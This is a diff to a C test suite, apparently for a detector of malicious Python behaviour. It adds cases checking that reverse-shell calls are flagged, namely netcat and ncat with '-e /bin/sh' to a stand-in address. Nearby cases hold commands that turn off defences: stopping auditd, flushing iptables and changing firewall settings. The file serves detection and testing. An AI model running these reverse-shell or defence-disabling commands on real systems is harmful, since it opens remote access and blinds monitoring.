@@ -219,6 +219,13 @@ static void as_lists(void)
 	CHECK(shows("import subprocess\n"
 		    "subprocess.run(['systemctl', 'stop', 'auditd'])",
 		    MPY_BEH_DEFENCE_OFF, 2));
+	CHECK(shows("import subprocess\n"
+		    "subprocess.Popen(['/bin/nc', ip, port, '-e', '/bin/sh'])",
+		    MPY_BEH_SHELL_REVERSE, 2));
+	CHECK(shows("import os\nos.system('ncat 192.0.2.1 4444 -e /bin/sh')",
+		    MPY_BEH_SHELL_REVERSE, 2));
+	CHECK(lacks("import os\nos.system('nc -z 192.0.2.1 22')",
+		    MPY_BEH_SHELL_REVERSE));
 	CHECK(shows("import os\nos.execlp('iptables', 'iptables', '-F')",
 		    MPY_BEH_DEFENCE_OFF, 2));
 	CHECK(shows("import subprocess as s\ns.call(['netsh', 'advfirewall', "
